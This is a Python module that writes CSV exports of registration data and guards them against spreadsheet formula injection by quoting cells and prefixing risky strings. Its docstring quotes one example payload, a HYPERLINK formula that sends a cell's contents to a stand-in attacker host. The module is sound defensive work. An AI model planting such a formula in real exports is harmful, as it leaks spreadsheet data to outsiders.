"""CSV downloads that are safe to open in a spreadsheet (RFC 4180 text, no formulas).

Entrants type their own names, clubs and cities into registration forms, and
those strings end up in our CSV exports. A spreadsheet treats a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "Results")``
runs in the race director's Excel. Following OWASP's CSV injection advice,
such a string gets a leading single quote, so the spreadsheet shows it as
text, and every string cell is written in double quotes (inner quotes
doubled). Real numbers (int, float, Decimal) stay unquoted numbers, minus
sign and all: a spreadsheet reads ``-5`` as the number, never as a formula,
and those values come from the database's numeric columns, not from anyone's
typing.
"""

from __future__ import annotations

import csv
import decimal
import io
from collections.abc import Iterable, Sequence
from typing import Any

# OWASP, "CSV Injection": the characters a formula may start with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """The cell as written: numbers as numbers, anything else as text that cannot be a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | decimal.Decimal):
        return value
    text = str(value)  # dates too, as csv.writer always wrote them
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def render(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The whole download: a header row, then the rows, CRLF line ends (RFC 4180)."""
    out = io.StringIO()
    # QUOTE_NONNUMERIC: every str cell is quoted; the numbers left as numbers are not.
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([neutralised(c) for c in columns])
    writer.writerows([neutralised(v) for v in row] for row in rows)
    return out.getvalue()
